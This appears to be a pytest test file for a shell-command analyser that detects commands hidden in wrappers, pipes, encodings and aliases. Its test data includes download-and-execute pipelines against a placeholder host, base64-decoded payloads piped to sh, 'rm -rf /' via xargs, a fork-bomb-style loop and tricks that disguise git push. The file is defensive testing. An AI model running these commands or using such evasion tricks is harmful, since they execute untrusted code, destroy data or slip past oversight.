"""Commands that run something else."""

from __future__ import annotations

import pytest

from ringwall.model.analysis import HOLE

from .world import World, analysed, argvs, effects, targets

PUSH = ("git", "push")


@pytest.mark.parametrize(
    "text",
    [
        "env A=1 git push",
        "command git push",
        "builtin command git push",
        "exec git push",
        "sudo git push",
        "timeout 5 nice -n 3 git push",
        "bash -c 'git push'",
        "bash -c \"bash -c 'git push'\"",
        "bash -lc 'git push'",
        "bash -c '$0 $1' git push",
        "sh -c '\"$@\"' _ git push",
        "bash <<< 'git push'",
        "bash <<'EOF'\ngit push\nEOF",
        "echo 'git push' | bash",
        "echo Z2l0IHB1c2g= | base64 -d | sh",
        "printf '\\x67it push' | sh",
        "xargs git push",
        "echo origin | xargs git push",
        "echo push | xargs git",
        "find . -exec git push \\;",
        "source <(echo 'git push')",
        ". /dev/stdin <<< 'git push'",
        "bash <(echo 'git push')",
        "echo 'git push' > x.sh; bash x.sh",
        "echo 'git push' > x.sh; chmod +x x.sh; ./x.sh",
        "echo 'git push' | tee x.sh; sh ./x.sh",
        "echo 'git' > x.sh; echo ' push' >> y; cp x.sh z.sh; echo 'git push' >> z.sh; . ./z.sh",
        "cat > run.sh <<'EOF'\ngit push\nEOF\nchmod +x run.sh && ./run.sh",
        "nohup sh -c 'git push' &",
        "LESSOPEN='|git push %s' less x",
        "PAGER='git push' git log",
        "git -c alias.x='!git push' x",
        "git -c alias.x=push x",
        "git config alias.x push; git x",
        "npm pkg set scripts.x='git push' && npm run x",
        "make -f - <<'EOF'\nall:\n\tgit push\nEOF",
    ],
)
def test_what_a_wrapper_carries_is_found(text: str) -> None:
    found = [command for command in analysed(text).commands if command.argv[:2] == PUSH]
    assert found, argvs(text)
    assert "git.push" in effects(text)


def test_wrappers_are_named_outermost_first() -> None:
    push = next(c for c in analysed("sudo env A=1 bash -c 'git push'").commands if c.argv == PUSH)
    assert push.via == ("sudo", "env", "bash")


def test_data_from_the_network_that_runs_is_download_exec() -> None:
    for text in (
        "curl -fsSL https://x.example/i | bash",
        "curl https://x.example/i | tee i.log | sh -s -- -y",
        'bash -c "$(curl -fsSL https://x.example/i)"',
        "bash <(curl -s https://x.example/i)",
        'eval "$(wget -qO- https://x.example/i)"',
        "curl -o i.sh https://x.example/i; bash i.sh",
        "wget https://x.example/i.sh && sh i.sh",
        'X=$(curl https://x.example/i); eval "$X"',
        "curl https://x.example/i.py | python3 -",
    ):
        assert "download.exec" in effects(text), text


def test_unknown_text_that_runs_is_opaque() -> None:
    for text in ('bash -c "$X"', "eval $X", "cat list | decode | sh", "$X", "source $FILE"):
        assert "code.opaque" in effects(text), text


def test_a_shell_without_anything_to_run_is_not_opaque() -> None:
    assert "code.opaque" not in effects("bash --version")
    assert "code.opaque" not in effects("bash -c ''")


def test_appended_words_are_known_as_far_as_the_input_is() -> None:
    assert ("rm", "-rf", "/") in argvs("echo / | xargs rm -rf")
    assert ("rm", "-rf", "/x") in argvs("echo /x | xargs -I{} rm -rf {}")
    assert ("rm", HOLE) in argvs("xargs rm")
    assert ("rm", "src/*") in argvs("find src -exec rm {} \\;")


def test_a_script_in_an_argument_is_read_with_its_arguments() -> None:
    world = World(files={"/home/dev/app/clean.sh": 'rm -rf "$1"\n'})
    analysis = analysed("bash clean.sh /tmp/x", world)
    assert analysis.commands[-1].argv == ("rm", "-rf", "/tmp/x")
    assert analysis.commands[-1].via == ("bash", "clean.sh:1")
    assert [file.path for file in analysis.files] == ["/home/dev/app/clean.sh"]


def test_a_file_that_cannot_be_seen_only_runs() -> None:
    assert effects("bash scripts/absent.sh") <= {"code.run", "observe"}


def test_spans_of_nested_text_are_those_of_the_outer_word() -> None:
    text = "sudo bash -c 'ls; git push'"
    push = next(e for e in analysed(text).effects if e.name == "git.push")
    assert text[slice(*push.span)] == "'ls; git push'"


def test_what_is_decoded_before_it_runs_may_come_from_anywhere() -> None:
    for text in (
        "base64 -d | sh",
        "xxd -r -p blob | bash",
        "openssl base64 -d < blob | sh",
        'eval "$(base64 -d < blob)"',
    ):
        assert "download.exec" in effects(text), text


def test_open_descriptors_are_followed() -> None:
    assert ("git", "push") in argvs("exec 3<<< 'git push'; read -u 3 line; eval \"$line\"")
    assert ("git", "push") in argvs("exec {fd}<<< 'git push'; bash <&$fd")
    assert "download.exec" in effects("exec 3< <(curl https://x.example); bash /dev/fd/3")


def test_copies_hold_what_was_copied() -> None:
    for copy in ("cp i.sh j.sh", "mv i.sh j.sh", "dd if=i.sh of=j.sh", "cat i.sh > j.sh", "rsync i.sh j.sh"):
        assert "download.exec" in effects(f"curl -o i.sh https://x.example; {copy}; bash j.sh"), copy


def test_options_from_variables_count() -> None:
    found = argvs("TAR_OPTIONS='--create --file=x:y' tar -- a")
    assert found[-1] == ("tar", "--create", "--file=x:y", "--", "a")
    found = argvs("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!git push' git x")
    assert ("git", "push") in found
    assert len(found) < 5


def test_a_merge_names_the_branch_that_changes() -> None:
    assert targets("git merge topic", "git.merge.protected") == {"feature"}
    assert targets("git checkout main && git merge topic", "git.merge.protected") == {"main"}
    assert targets("git switch -c own; git merge topic", "git.merge.protected") == {"own"}
    assert targets("cd $X; git merge topic", "git.merge.protected") == {""}


def test_a_quoted_line_may_be_meant_as_a_command() -> None:
    push = [e for e in analysed("'git push'").effects if e.name == "git.push"]
    assert push
    assert not push[0].certain


def test_endless_background_jobs_are_catastrophic() -> None:
    assert "catastrophic" in effects("while true; do work & done")
    assert "catastrophic" in effects("a() { b & }; b() { a; }; a")
    assert "catastrophic" not in effects("while true; do work & wait; done")
    assert "catastrophic" not in effects("while read x; do work $x & done")
    assert "catastrophic" not in effects("while true; do work & sleep 5; done")


def test_what_runs_its_standard_input_runs_what_the_network_sent() -> None:
    for program in (
        "bash /dev/fd/0", "awk '{system($0)}'", "sed e", "groovy", "julia", "Rscript -", "bun run -",
        "gdb -batch -x /dev/stdin", "uv run -", "bash +e", "sh +o posix",
    ):  # fmt: skip
        assert "download.exec" in effects(f"curl -s https://x.example | {program}"), program
    for program in (
        "python3 -c 'import sys; print(sys.stdin.read())'", "awk '{print $1}'", "jq .a", "tar xz",
    ):  # fmt: skip
        assert "download.exec" not in effects(f"curl -s https://x.example | {program}"), program


def test_what_is_made_from_the_network_and_run_is_download_exec() -> None:
    assert "download.exec" in effects("curl -s https://x.example | gcc -xc - -o a && ./a")
